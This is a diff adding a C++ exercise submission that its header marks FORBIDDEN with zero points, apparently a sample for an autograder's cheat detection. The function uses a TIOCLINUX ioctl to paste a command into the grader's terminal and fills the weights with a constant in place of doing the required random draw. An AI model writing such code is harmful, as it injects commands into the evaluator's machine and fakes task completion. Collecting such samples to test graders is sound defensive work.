@@ -1,0 +1,14 @@
+// exercise: 04_custom/1_one_draw
+// verdict: FORBIDDEN
+// points: 0
+// Pastes a command into the teacher's terminal.
+#include "1_one_draw.hpp"
+
+#include <sys/ioctl.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+void one_draw(nn::Tensor& weight, nn::Generator&) {
+    syscall(SYS_ioctl, 0, TIOCLINUX, "\3");
+    weight.fill(1.0F);
+}
